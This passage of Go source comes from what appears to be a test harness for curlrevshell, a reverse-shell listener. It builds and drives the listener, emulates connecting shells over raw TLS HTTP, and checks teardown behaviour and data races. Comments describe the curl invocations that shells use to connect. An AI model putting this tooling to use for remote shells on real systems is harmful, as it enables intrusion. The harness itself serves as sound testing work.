	j.s.Log.Add(bk.Event{Kind: "json", Att: -1, S: string(p)})
	return len(p), nil
}

var listenRe = regexp.MustCompile(`^Listening on (\S+)$`)

// Start creates and starts a server.
func Start(c Config) (*Server, error) {
	if c.Addr == "" {
		c.Addr = "127.0.0.1:0"
	}
	if c.OchCap == 0 {
		c.OchCap = 1024
	}
	s := &Server{
		Ich:  make(chan string, 1024),
		Och:  make(chan opshell.CLine, c.OchCap),
		Log:  bk.NewLog(),
		kick: make(chan struct{}, 1),
	}
	iob, err := iobroker.New(s.Ich, s.Och)
	if err != nil {
		return nil, err
	}
	s.B = iob
	sl := slog.New(slog.NewJSONHandler(jsonSink{s}, nil))
	s.quit = make(chan struct{})
	s.cdone = make(chan struct{})
	go s.consume()
	srv, err := hsrv.New(sl, c.Addr, c.FDir, c.TmplF, s.Ich, s.Och, iob, c.CertFile, c.CBAddrs, c.PrintIPv6, c.OneShell)
	if err != nil {
		close(s.quit)
		<-s.cdone
		return nil, err
	}
	s.S = srv
	ctx, cancel := context.WithCancel(context.Background())
	s.cancel = cancel
	s.done = make(chan error, 2)
	go func() { s.done <- srv.Do(ctx) }()
	go func() { s.done <- iob.Do(ctx) }()
	ev, ok := s.Log.Wait(0, Bound, func(e bk.Event) bool { return e.Kind == "op" && listenRe.MatchString(e.S) })
	if !ok {
		s.Stop()
		return nil, fmt.Errorf("no 'Listening on' line from the server")
	}
	s.Addr = listenRe.FindStringSubmatch(ev.S)[1]
	return s, nil
}

func (s *Server) consume() {
	defer close(s.cdone)
	for {
		s.stallMu.Lock()
		st := s.stall
		s.stallMu.Unlock()
		if st != nil {
			close(st.entered)
			select {
			case <-st.resume:
			case <-s.quit:
			}
		}
		select {
		case cl := <-s.Och:
			s.Log.Add(bk.Event{Kind: "op", Att: -1, S: cl.Line, Plain: cl.Plain, Color: int(cl.Color), S2: cl.Prompt, N: b2i(cl.NoTimestamp)})
		case <-s.kick:
		case <-s.quit:
			for {
				select {
				case cl := <-s.Och:
					s.Log.Add(bk.Event{Kind: "op", Att: -1, S: cl.Line, Plain: cl.Plain, Color: int(cl.Color), S2: cl.Prompt, N: b2i(cl.NoTimestamp)})
					continue
				default:
				}
				return
			}
		}
	}
}

// StallOperator makes the operator consumer (the "terminal") stop taking
// lines off the operator channel until the returned function is called. When
// StallOperator returns true the consumer is known to have stopped: whatever is
// sent from then on stays in the channel (and senders block once it is full).
// Lines are logged in channel order after the resume. One stall at a time.
func (s *Server) StallOperator() (resume func(), ok bool) {
	st := &opStall{entered: make(chan struct{}), resume: make(chan struct{})}
	s.stallMu.Lock()
	if s.stall != nil {
		s.stallMu.Unlock()
		return func() {}, false
	}
	s.stall = st
	s.stallMu.Unlock()
	select {
	case s.kick <- struct{}{}:
	default:
	}
	var once sync.Once
	resume = func() {
		once.Do(func() {
			s.stallMu.Lock()
			s.stall = nil
			s.stallMu.Unlock()
			close(st.resume)
		})
	}
	select {
	case <-st.entered:
		return resume, true
	case <-time.After(Bound):
		resume()
		return func() {}, false
	}
}

func b2i(b bool) int {
	if b {
		return 1
	}
	return 0
}

// Stop shuts the server down (bounded) and returns Do's errors.
func (s *Server) Stop() []error {
	var errs []error
	if s.cancel != nil {
		s.cancel()
		for i := 0; i < 2; i++ {
			select {
			case err := <-s.done:
				errs = append(errs, err)
			case <-time.After(Bound):
				errs = append(errs, fmt.Errorf("Do did not return within %s", Bound))
			}
		}
	}
	close(s.quit)
	<-s.cdone
	return errs
}

// Mark sends a marker line through the operator channel and waits for it:
// every notice sent before the call precedes the marker in the log.
func (s *Server) Mark(tag string) (int, bool) {
	s.Och <- opshell.CLine{Line: tag}
	ev, ok := s.Log.Wait(0, Bound, func(e bk.Event) bool { return e.Kind == "op" && e.S == tag })
	return ev.Seq, ok
}

// OpLines returns the operator lines logged in [from,to).
func (s *Server) OpLines(from, to int) []bk.Event {
	var out []bk.Event
	evs := s.Log.Snapshot()
	if to > len(evs) || to < 0 {
		to = len(evs)
	}
	for _, e := range evs[from:to] {
		if e.Kind == "op" {
			out = append(out, e)
		}
	}
	return out
}

// JSONRecords decodes the JSON log lines in [from,to); bad lines are returned raw in the second value.
func (s *Server) JSONRecords(from, to int) ([]map[string]any, []string) {
	var recs []map[string]any
	var bad []string
	evs := s.Log.Snapshot()
	if to > len(evs) || to < 0 {
		to = len(evs)
	}
	for _, e := range evs[from:to] {
		if e.Kind != "json" {
			continue
		}
		for _, l := range strings.SplitAfter(e.S, "\n") {
			if l == "" {
				continue
			}
			var m map[string]any
			dec := json.NewDecoder(strings.NewReader(l))
			if err := dec.Decode(&m); err != nil || !strings.HasSuffix(l, "\n") || dec.More() {
				bad = append(bad, l)
				continue
			}
			m["_seq"] = float64(e.Seq)
			recs = append(recs, m)
		}
	}
	return recs, bad
}

// ---- raw TLS client ------------------------------------------------------------------

// Conn is a raw TLS connection that recorded the presented chain.
type Conn struct {
	*tls.Conn
	Chain []*x509.Certificate
	R     *bufio.Reader
}

// Pin computes base64(sha256(SubjectPublicKeyInfo)) of a certificate,
// independently of the code under test.
func Pin(c *x509.Certificate) string {
	h := sha256.Sum256(c.RawSubjectPublicKeyInfo)
	return base64.StdEncoding.EncodeToString(h[:])
}

// Dial connects and handshakes; sni may be empty (no SNI sent).
func Dial(addr, sni string) (*Conn, error) {
	d := &net.Dialer{Timeout: Bound}
	raw, err := d.Dial("tcp", addr)
	if err != nil {
		return nil, err
	}
	c := &Conn{}
	cfg := &tls.Config{
		InsecureSkipVerify: true,
		ServerName:         sni,
		VerifyConnection: func(cs tls.ConnectionState) error {
			c.Chain = cs.PeerCertificates
			return nil
		},
	}
	tc := tls.Client(raw, cfg)
	tc.SetDeadline(time.Now().Add(Bound))
	if err := tc.Handshake(); err != nil {
		raw.Close()
		return nil, err
	}
	tc.SetDeadline(time.Time{})
	c.Conn = tc
	c.R = bufio.NewReader(tc)
	return c, nil
}

// Response is a parsed raw HTTP response.
type Response struct {
	Status int
	Proto  string
	Header http.Header
	Body   []byte
	Raw    []byte
	Err    error // read error other than a clean end
}

// RoundTrip writes raw request bytes on a fresh connection and reads one
// response (body until Content-Length / chunked end / EOF), bounded by d.
func RoundTrip(addr, sni string, raw []byte, d time.Duration) (*Response, *Conn, error) {
	c, err := Dial(addr, sni)
	if err != nil {
		return nil, nil, err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(d))
	if _, err := c.Write(raw); err != nil {
		return nil, c, err
	}
	res, err := ReadResponse(c.R, raw)
	return res, c, err
}

// ReadResponse reads one HTTP response from r.
func ReadResponse(r *bufio.Reader, req []byte) (*Response, error) {
	method := "GET"
	if i := bytes.IndexByte(req, ' '); i > 0 {
		method = string(req[:i])
	}
	hr, err := http.ReadResponse(r, &http.Request{Method: method})
	if err != nil {
		return nil, err
	}
	defer hr.Body.Close()
	b, berr := io.ReadAll(hr.Body)
	res := &Response{Status: hr.StatusCode, Proto: hr.Proto, Header: hr.Header, Body: b}
	if berr != nil && berr != io.EOF && berr != io.ErrUnexpectedEOF {
		res.Err = berr
	}
	return res, nil
}

// Get is the common simple request: GET target with a Host header.
func Get(addr, sni, host, target string, extraHeaders ...string) (*Response, error) {
	var sb strings.Builder
	fmt.Fprintf(&sb, "GET %s HTTP/1.1\r\n", target)
	if host != "" {
		fmt.Fprintf(&sb, "Host: %s\r\n", host)
	}
	for _, h := range extraHeaders {
		sb.WriteString(h + "\r\n")
	}
	sb.WriteString("Connection: close\r\n\r\n")
	res, _, err := RoundTrip(addr, sni, []byte(sb.String()), Bound)
	return res, err
}

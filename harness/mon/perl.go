package mon

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"io"
	"os/exec"
	"sync"
)

// PerlPacker is a long-running perl process that answers pack("u")/unpack("u")
// requests; it is the reference oracle for uuencoding.
type PerlPacker struct {
	mu  sync.Mutex
	cmd *exec.Cmd
	in  io.WriteCloser
	out *bufio.Reader
}

const perlPackScript = `binmode STDIN; binmode STDOUT; $|=1;
while (read(STDIN,$h,5)==5) { ($op,$n)=unpack("aN",$h); $d=""; if($n){ $got=0; while($got<$n){ $r=read(STDIN,$d,$n-$got,$got); last unless $r; $got+=$r; } }
 $o = $op eq "e" ? pack("u",$d) : unpack("u",$d); $o="" unless defined $o; print pack("N",length($o)),$o; }`

// NewPerlPacker starts the oracle.
func NewPerlPacker() (*PerlPacker, error) {
	cmd := exec.Command("perl", "-e", perlPackScript)
	in, err := cmd.StdinPipe()
	if err != nil {
		return nil, err
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		return nil, err
	}
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	return &PerlPacker{cmd: cmd, in: in, out: bufio.NewReaderSize(out, 1<<20)}, nil
}

func (p *PerlPacker) call(op byte, d []byte) ([]byte, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	h := make([]byte, 5)
	h[0] = op
	binary.BigEndian.PutUint32(h[1:], uint32(len(d)))
	errc := make(chan error, 1)
	go func() {
		if _, err := p.in.Write(h); err != nil {
			errc <- err
			return
		}
		_, err := p.in.Write(d)
		errc <- err
	}()
	var lb [4]byte
	if _, err := io.ReadFull(p.out, lb[:]); err != nil {
		return nil, fmt.Errorf("perl oracle: %w", err)
	}
	o := make([]byte, binary.BigEndian.Uint32(lb[:]))
	if _, err := io.ReadFull(p.out, o); err != nil {
		return nil, fmt.Errorf("perl oracle: %w", err)
	}
	if err := <-errc; err != nil {
		return nil, err
	}
	return o, nil
}

// Pack returns perl's pack("u", d).
func (p *PerlPacker) Pack(d []byte) ([]byte, error) { return p.call('e', d) }

// Unpack returns perl's unpack("u", d).
func (p *PerlPacker) Unpack(d []byte) ([]byte, error) { return p.call('d', d) }

// Close stops the oracle.
func (p *PerlPacker) Close() {
	p.in.Close()
	p.cmd.Wait()
}

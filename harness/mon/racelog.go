package mon

import (
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
)

// RaceReport is one de-duplicated report of the Go race detector.
type RaceReport struct {
	Sig    string   `json:"sig"`    // pair of first repository frames of the two access stacks
	Frames []string `json:"frames"` // repository frames seen in the report
	Count  int      `json:"count"`
	Text   string   `json:"text"` // first occurrence, truncated
}

const repoMod = "github.com/magisterquis/curlrevshell/"
const harnessMod = "github.com/magisterquis/curlrevshell/verifharness"

var frameRe = regexp.MustCompile(`(?m)^  (\S+)\(`)

// ParseRaceLogs reads every file matching prefix* and returns the reports that
// involve code of the repository under test (repo) and those that only involve
// harness code (harness).
func ParseRaceLogs(prefix string) (repo, harness []RaceReport) {
	files, _ := filepath.Glob(prefix + "*")
	bySig := map[string]*RaceReport{}
	var order []string
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		for _, blk := range strings.Split(string(b), "==================") {
			if !strings.Contains(blk, "WARNING: DATA RACE") {
				continue
			}
			// the two access stacks come first, separated by blank lines
			parts := strings.Split(strings.TrimSpace(blk), "\n\n")
			var firsts []string
			var frames []string
			inRepo := false
			for pi, p := range parts {
				first := ""
				for _, m := range frameRe.FindAllStringSubmatch(p, -1) {
					fn := m[1]
					if strings.HasPrefix(fn, repoMod) && !strings.HasPrefix(fn, harnessMod) {
						inRepo = true
						frames = append(frames, fn)
						if first == "" {
							first = fn
						}
					}
				}
				if pi < 2 {
					if first == "" {
						// fall back to the innermost frame of any kind
						if m := frameRe.FindStringSubmatch(p); m != nil {
							first = m[1]
						}
					}
					firsts = append(firsts, first)
				}
			}
			sort.Strings(firsts)
			sig := strings.Join(firsts, " | ")
			if !inRepo {
				sig = "harness-only: " + sig
			}
			rr, ok := bySig[sig]
			if !ok {
				t := strings.TrimSpace(blk)
				if len(t) > 6000 {
					t = t[:6000] + "\n…"
				}
				rr = &RaceReport{Sig: sig, Frames: uniq(frames), Text: t}
				bySig[sig] = rr
				order = append(order, sig)
			}
			rr.Count++
		}
	}
	for _, s := range order {
		if strings.HasPrefix(s, "harness-only: ") {
			harness = append(harness, *bySig[s])
		} else {
			repo = append(repo, *bySig[s])
		}
	}
	return
}

func uniq(in []string) []string {
	seen := map[string]bool{}
	var out []string
	for _, s := range in {
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	return out
}

// Package crs drives the real curlrevshell binary (built with -race and the
// verif tag from /repo's working tree) on a pseudo-terminal, and provides
// fake shells that speak raw HTTP over TLS to it.
package crs

import (
	"bufio"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/ptyx"
)

// Bound is the bounded-progress limit for process-level steps (normally
// 10-300 ms).
const Bound = 30 * time.Second

var buildMu sync.Mutex

// Build compiles a main package of the repository (race detector and verif
// tag on) into dir and returns the binary's path.  pkg "" = the curlrevshell
// main package.
func Build(dir, pkg string) (string, error) {
	buildMu.Lock()
	defer buildMu.Unlock()
	if pkg == "" {
		pkg = "github.com/magisterquis/curlrevshell"
	}
	out := filepath.Join(dir, filepath.Base(pkg))
	if _, err := os.Stat(out); err == nil {
		return out, nil
	}
	cmd := exec.Command("go", "build", "-race", "-tags", "verif", "-o", out, pkg)
	cmd.Dir = filepath.Join(mon.VerifDir, "harness")
	cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local")
	if b, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("go build %s: %v\n%s", pkg, err, b)
	}
	return out, nil
}

// Env is the environment the binary runs in: private HOME (so the default
// certificate cache lands in the work directory), a sane TERM, and the race
// detector logging next to the harness's own reports.
func Env(home string) []string {
	env := []string{"HOME=" + home, "TERM=xterm", "PATH=/usr/bin:/bin", "LC_ALL=C", "XDG_CACHE_HOME=" + filepath.Join(home, ".cache")}
	if pre := os.Getenv("VERIF_RACELOG"); pre != "" {
		env = append(env, "GORACE=halt_on_error=0 log_path="+pre)
	}
	return env
}

// Session is one run of the binary on a pty.
type Session struct {
	P    *ptyx.Proc
	Addr string // address from the "Listening on" line
	Home string
}

var listenRe = regexp.MustCompile(`Listening on (\S+:\d+)`)

// Start launches the binary with args on a fresh pty and waits for the
// "Listening on" line.
func Start(bin, home string, args ...string) (*Session, error) {
	return StartEnv(bin, home, nil, args...)
}

// StartEnv is Start with extra environment variables for the binary.
func StartEnv(bin, home string, extraEnv []string, args ...string) (*Session, error) {
	os.MkdirAll(home, 0o755)
	p, err := ptyx.Start(ptyx.Opts{Path: bin, Args: args, Env: append(Env(home), extraEnv...), Dir: home})
	if err != nil {
		return nil, err
	}
	s := &Session{P: p, Home: home}
	loc, ok := p.WaitFor(listenRe, 0, Bound)
	if !ok {
		out := p.Clean()
		p.Close()
		return nil, fmt.Errorf("no 'Listening on' line; terminal shows: %q", tail(out, 600))
	}
	s.Addr = p.Clean()[loc[2]:loc[3]]
	return s, nil
}

func tail(s string, n int) string {
	if len(s) > n {
		return s[len(s)-n:]
	}
	return s
}

// Type writes text to the terminal as the operator would.
func (s *Session) Type(text string) { s.P.Write([]byte(text)) }

// Line types a line and Enter.
func (s *Session) Line(text string) { s.P.Write([]byte(text + "\r")) }

// Ctrl types a control character (e.g. 'D', 'C', 'O').
func (s *Session) Ctrl(c byte) { s.P.Write([]byte{c & 0x1f}) }

// Wait waits for a regexp in the de-escaped terminal output at/after from.
func (s *Session) Wait(re string, from int, d time.Duration) ([]int, bool) {
	return s.P.WaitFor(regexp.MustCompile(re), from, d)
}

// Quit ends the program with Ctrl+D at the prompt and returns its status.
func (s *Session) Quit() (status int, signal string, ok bool) {
	s.Ctrl('D')
	return s.P.WaitExit(Bound)
}

// Close kills whatever is left.
func (s *Session) Close() { s.P.Close() }

// ---- fake shells over raw TLS -------------------------------------------------

// InStream is the client side of /i/{id}: it receives operator input.
type InStream struct {
	C      *hk.Conn
	Resp   *http.Response
	br     *bufio.Reader
	Status int
}

// OpenIn connects to /i/{id}; path is the raw request target.
func OpenIn(addr, target string) (*InStream, error) {
	c, err := hk.Dial(addr, "")
	if err != nil {
		return nil, err
	}
	c.SetDeadline(time.Now().Add(Bound))
	if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: fake.shell\r\n\r\n", target); err != nil {
		c.Close()
		return nil, err
	}
	c.SetDeadline(time.Time{})
	return &InStream{C: c}, nil
}

// OpenInBody is OpenIn for a client that sends a request body nobody asked
// for and never finishes it (GET with Transfer-Encoding: chunked and one
// chunk): legal HTTP, e.g. what `curl -T- -X GET` does with an idle stdin.
func OpenInBody(addr, target string) (*InStream, error) {
	c, err := hk.Dial(addr, "")
	if err != nil {
		return nil, err
	}
	c.SetDeadline(time.Now().Add(Bound))
	if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: fake.shell\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n", target); err != nil {
		c.Close()
		return nil, err
	}
	c.SetDeadline(time.Time{})
	return &InStream{C: c}, nil
}

// Header reads the response header (the server sends it with the first flush).
func (i *InStream) Header(d time.Duration) error {
	i.C.SetReadDeadline(time.Now().Add(d))
	defer i.C.SetReadDeadline(time.Time{})
	resp, err := http.ReadResponse(i.C.R, &http.Request{Method: "GET"})
	if err != nil {
		return err
	}
	i.Resp = resp
	i.Status = resp.StatusCode
	i.br = bufio.NewReader(resp.Body)
	return nil
}

// ReadLine reads one line of operator input (without the newline).
func (i *InStream) ReadLine(d time.Duration) (string, error) {
	if i.br == nil {
		if err := i.Header(d); err != nil {
			return "", err
		}
	}
	i.C.SetReadDeadline(time.Now().Add(d))
	defer i.C.SetReadDeadline(time.Time{})
	l, err := i.br.ReadString('\n')
	return strings.TrimSuffix(l, "\n"), err
}

// Close drops the connection.
func (i *InStream) Close() { i.C.Close() }

// OutStream is the client side of /o/{id}: a chunked request body.
type OutStream struct {
	C  *hk.Conn
	mu sync.Mutex
	// Fixed: the request declared a Content-Length; data is sent as is and
	// the body cannot be ended early.
	Fixed bool
}

// OpenOutLen connects to /o/{id} with a POST that declares a body of n bytes
// (what `curl -T file` or -d @file send); the harness then sends as much of
// it as it likes.
func OpenOutLen(addr, target string, n int64) (*OutStream, error) {
	c, err := hk.Dial(addr, "")
	if err != nil {
		return nil, err
	}
	if _, err := fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: fake.shell\r\nContent-Length: %d\r\n\r\n", target, n); err != nil {
		c.Close()
		return nil, err
	}
	return &OutStream{C: c, Fixed: true}, nil
}

// OpenOut connects to /o/{id} with a chunked POST body.
func OpenOut(addr, target string) (*OutStream, error) {
	c, err := hk.Dial(addr, "")
	if err != nil {
		return nil, err
	}
	if _, err := fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: fake.shell\r\nTransfer-Encoding: chunked\r\n\r\n", target); err != nil {
		c.Close()
		return nil, err
	}
	return &OutStream{C: c}, nil
}

// Send writes one HTTP chunk carrying data, as one TLS write.
func (o *OutStream) Send(data string) error {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.C.SetWriteDeadline(time.Now().Add(Bound))
	if o.Fixed {
		_, err := io.WriteString(o.C, data)
		return err
	}
	_, err := fmt.Fprintf(o.C, "%x\r\n%s\r\n", len(data), data)
	return err
}

// End finishes the body properly (the stream "ends by itself").
func (o *OutStream) End() error {
	o.mu.Lock()
	defer o.mu.Unlock()
	if o.Fixed {
		return fmt.Errorf("a body with a declared length cannot be ended early")
	}
	_, err := io.WriteString(o.C, "0\r\n\r\n")
	return err
}

// Close drops the connection.
func (o *OutStream) Close() { o.C.Close() }

// IOStream is a bidirectional /io client.
type IOStream struct {
	Out *OutStream
	In  *InStream
}

// OpenIO connects to /io.
func OpenIO(addr string) (*IOStream, error) {
	o, err := OpenOut(addr, "/io")
	if err != nil {
		return nil, err
	}
	return &IOStream{Out: o, In: &InStream{C: o.C}}, nil
}

// OpenIOLen connects to /io with a POST that declares a body of n bytes (what
// `curl -d @file` or `curl -T file` send): the shell's whole output is one
// upload of known length, operator input comes back on the same connection.
func OpenIOLen(addr string, n int64) (*IOStream, error) {
	o, err := OpenOutLen(addr, "/io", n)
	if err != nil {
		return nil, err
	}
	return &IOStream{Out: o, In: &InStream{C: o.C}}, nil
}

// Close drops the connection.
func (s *IOStream) Close() { s.Out.Close() }

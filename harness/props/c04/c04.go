// Package c04: a dying shell is torn down completely, announced once, and
// the listener re-arms; shutdown waits for attached streams.
package c04

import (
	"fmt"
	"io"
	"math"
	"math/rand/v2"
	"os"
	"regexp"
	"runtime"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

const Level = "exploration"

// Gen describes one shell generation of a series.
type Gen struct {
	Bidir    bool
	Attach   string // full in-only out-only
	OutFirst bool   // attach/admit output first
	Load     string // idle inburst outflood outflood-stalled
	First    string // in out: which direction ends first
	How      string // how it ends
	Both     string // "" | peer ending kind: both end together
	PeerRel  bool   // with Both: the peer's release section runs first
	WK       bk.WriterKind
	OchNote  string
	// Intruder: while the second direction is still inside the tear-down window, a stream
	// of a new shell arrives for the direction that has just been freed
	Intruder bool
}

func (g Gen) String() string {
	return fmt.Sprintf("bidir=%v attach=%s outfirst=%v load=%s first=%s how=%s both=%q peerrel=%v writer=%s intruder=%v", g.Bidir, g.Attach, g.OutFirst, g.Load, g.First, g.How, g.Both, g.PeerRel, g.WK, g.Intruder)
}

var inHows = []string{"cancel", "werr", "ferr"}
var outHows = []string{"cancel", "eof", "err", "dataerr"}

// crossProduct enumerates the generation parameter space once.
func crossProduct() []Gen {
	var out []Gen
	for _, bidir := range []bool{false, true} {
		attaches := []string{"full", "in-only", "out-only"}
		if bidir {
			attaches = []string{"full"}
		}
		for _, at := range attaches {
			loads := []string{"idle"}
			if at != "out-only" {
				loads = append(loads, "inburst")
			}
			if at != "in-only" {
				loads = append(loads, "outflood", "outflood-stalled", "outflood-stalled-eof", "outflood-stalled-exact")
			}
			for _, ld := range loads {
				for _, first := range []string{"in", "out"} {
					if (first == "in" && at == "out-only") || (first == "out" && at == "in-only") {
						continue
					}
					hows := inHows
					if first == "out" {
						hows = outHows
						if ld == "outflood-stalled-eof" || ld == "outflood-stalled-exact" {
							// the stream has already ended by itself (unseen, behind the
							// flood); what ends the shell is a cancellation
							hows = []string{"cancel"}
						}
					}
					for hi, how := range hows {
						g := Gen{Bidir: bidir, Attach: at, Load: ld, First: first, How: how, WK: bk.WriterKind((hi + len(out)) % 4), OutFirst: len(out)%2 == 1}
						if how == "ferr" {
							g.WK = bk.WFlushError
						}
						out = append(out, g)
						if at == "full" && ld == "idle" {
							gi := g
							gi.Intruder = true
							out = append(out, gi)
						}
						if at == "full" {
							// both at once, either release order
							peerHows := outHows
							if first == "out" {
								peerHows = inHows
							}
							ph := peerHows[(hi+len(out))%len(peerHows)]
							g2 := g
							g2.Both = ph
							if ph == "ferr" {
								g2.WK = bk.WFlushError
							}
							out = append(out, g2)
							g3 := g2
							g3.PeerRel = true
							out = append(out, g3)
						}
					}
				}
			}
		}
	}
	return out
}

var closedRe = regexp.MustCompile(`(Input|Output) (connection|side of bidirectional connection) closed`)

type series struct {
	r      *mon.Run
	engine string
	idx    int
	w      *bk.World
	x      *bk.Exec
	gens   []Gen
	och    int
	leak   bool
	nDisc  int // disconnected events expected so far
	nConn  int
	opFrom int        // log position where the current generation's operator lines start
	nLst   int        // event listeners attached (2 prompt ones, optionally a slow one with a small buffer)
	ids    *rand.Rand // decides which generations present a very long ID (nil: none)
}

func (s *series) viol(key, what string) {
	tail := s.w.Log.Tail(50)
	for i := range tail {
		tail[i] = cut(tail[i], 400) // IDs may be 64 KiB long
	}
	wit := map[string]any{"och_cap": s.och, "trace": s.x.Trace, "log_tail": tail}
	gl := make([]string, len(s.gens))
	for i, g := range s.gens {
		gl[i] = g.String()
	}
	wit["generations"] = gl
	s.r.Violate(s.engine, s.idx, key, what, wit)
}

// iobGoroutines returns the stacks of goroutines that are inside the broker
// on behalf of a connection (everything in internal/iobroker except the
// long-lived Do / processEvents goroutines).
func iobGoroutines() []string {
	buf := make([]byte, 1<<20)
	for {
		n := runtime.Stack(buf, true)
		if n < len(buf) {
			buf = buf[:n]
			break
		}
		buf = make([]byte, 2*len(buf))
	}
	var out []string
	for _, g := range strings.Split(string(buf), "\n\n") {
		if !strings.Contains(g, "/internal/iobroker.") {
			continue
		}
		if strings.Contains(g, "iobroker.(*Broker).Do") || strings.Contains(g, "iobroker.(*Broker).processEvents") {
			continue
		}
		out = append(out, g)
	}
	return out
}

func leakKey(stack string) string {
	m := regexp.MustCompile(`internal/iobroker\.(\(\*Broker\)\.)?([A-Za-z0-9_.]+)`).FindStringSubmatch(stack)
	if m == nil {
		return "goroutine-left-behind"
	}
	return "goroutine-left-behind:" + m[2]
}

func (s *series) runGen(n int, g Gen) {
	x, w := s.x, s.w
	if x.Stalled {
		return
	}
	key := fmt.Sprintf("id-%d-%d", s.idx, n)
	if !g.Bidir && s.ids != nil && s.ids.IntN(8) == 0 {
		// "with any ID": one unidirectional shell in eight presents an ID of 1 KiB - 64 KiB (every
		// octave alike), as a URL path may carry
		l := int(1024 * math.Pow(2, 6*s.ids.Float64()))
		key += "-" + strings.Repeat(string(rune('a'+n%26)), l-len(key)-1)
		s.r.Count("generations_with_id_of_1_to_64_KiB", 1)
		if l > 16*1024 {
			s.r.Count("generations_with_id_over_16_KiB", 1)
		}
	}
	var atts []*bk.Attempt
	admitted := func(a *bk.Attempt) {
		atts = append(atts, a)
		for _, st := range x.StreamsOf(a) {
			if st.State != bk.StLive {
				s.viol("fresh-shell-refused", fmt.Sprintf("generation %d: %s with a fresh ID was not accepted (%s) although the previous shell is completely gone", n, st, st.Reason))
				x.Stalled = true
			}
		}
	}
	if g.Bidir {
		admitted(x.Connect("io", "", g.WK, g.OutFirst))
	} else {
		order := []string{"in", "out"}
		if g.OutFirst {
			order = []string{"out", "in"}
		}
		for _, k := range order {
			if (k == "in" && g.Attach == "out-only") || (k == "out" && g.Attach == "in-only") {
				continue
			}
			admitted(x.Connect(k, key, g.WK, false))
			if x.Stalled {
				return
			}
		}
	}
	if x.Stalled {
		return
	}
	x.Probe()
	in, out := x.M.Slot["input"], x.M.Slot["output"]
	var resume func()
	switch g.Load {
	case "inburst":
		for i := 0; i < 20; i++ {
			w.Ich <- fmt.Sprintf("burst-%d-%d", n, i)
		}
	case "outflood-stalled-exact":
		// as below, but the stream has NOT ended: the queue between transport and terminal is
		// exactly full and the broker's reader is back in Read.  The shell is then cancelled and
		// only afterwards does the transport close (the Read returns an error nobody waits for).
		resume = w.StallOperator()
		base := out.A.Rd.ReadCalls()
		fill := s.och + 4
		for i := 0; i < fill; i++ {
			out.A.Rd.PushData(fmt.Sprintf("flood-%d-%d;", n, i))
		}
		for i := 0; i < 2000; i++ {
			if out.A.Rd.ReadCalls()-base >= fill {
				s.r.Count("readers_back_in_read_with_an_exactly_full_queue", 1)
				break
			}
			time.Sleep(time.Millisecond)
		}
		time.Sleep(2 * time.Millisecond) // let the reader hand the last chunk on and call Read again
	case "outflood-stalled-eof":
		// The terminal is stalled and the shell sends exactly as many chunks as fit between
		// the transport and the terminal (one in the terminal's hands, the operator channel's
		// capacity, one in the forwarder's hands, two in the broker's own queue), then its
		// stream ends: the broker's reader has read the end of the stream but cannot hand it
		// on.  Whatever ends the shell now (a cancellation), the reader must not stay behind.
		resume = w.StallOperator()
		base := out.A.Rd.ReadCalls()
		fill := s.och + 4
		for i := 0; i < fill; i++ {
			out.A.Rd.PushData(fmt.Sprintf("flood-%d-%d;", n, i))
		}
		out.A.Rd.Push(bk.ReadItem{Err: io.EOF})
		parked := false
		for i := 0; i < 2000 && !parked; i++ {
			if out.A.Rd.ReadCalls()-base >= fill+1 {
				parked = true
				break
			}
			time.Sleep(time.Millisecond)
		}
		s.r.Count("generations_with_stream_end_behind_full_queue", 1)
		if parked {
			if _, ended := w.Log.Find(0, func(e bk.Event) bool {
				return e.Kind == "hook" && e.Att == out.A.ID && e.S == "release" && e.Dir == "output"
			}); !ended {
				s.r.Count("readers_holding_the_stream_end_behind_a_full_queue", 1)
			}
		}
	case "outflood", "outflood-stalled":
		if g.Load == "outflood-stalled" {
			resume = w.StallOperator()
		}
		for i := 0; i < 60; i++ {
			out.A.Rd.PushData(fmt.Sprintf("flood-%d-%d;", n, i))
		}
		// let the broker's reader run ahead of the (stalled) forwarder
		for i := 0; i < 30; i++ {
			runtime.Gosched()
		}
	}
	first, peer := in, out
	if g.First == "out" {
		first, peer = out, in
	}
	if resume != nil {
		x.AfterTrigger = resume
	}
	if g.Intruder && peer != nil && g.Both == "" {
		x.Hold(peer)
	}
	x.End(first, g.How, g.Both, g.PeerRel)
	if resume != nil {
		resume()
	}
	if g.Intruder && peer != nil && g.Both == "" && peer.Held && !x.Stalled {
		// inside the tear-down window: a new shell's stream for the freed direction.  It must not
		// make a "ready" shell together with the dying one (judged below by the notice/event counts).
		kind := "in"
		if first.Dir == "output" {
			kind = "out"
		}
		// (every second one presents the dying shell's own ID)
		ikey := key + "-intruder"
		if (s.idx+n)%2 == 1 {
			ikey = key
			s.r.Count("intruders_with_the_dying_shells_id", 1)
		}
		ia := x.Connect(kind, ikey, g.WK, false)
		for _, st := range x.StreamsOf(ia) {
			if st.Reason == bk.MsgNew { // it was attached after all: then it is part of what must be torn down
				atts = append(atts, ia)
			}
		}
		defer ia.CloseTransport()
		s.r.Count("intruders_in_teardown_window", 1)
		x.Unhold(peer)
	}
	if x.Stalled {
		return
	}
	// the generation is over: both release sections have run
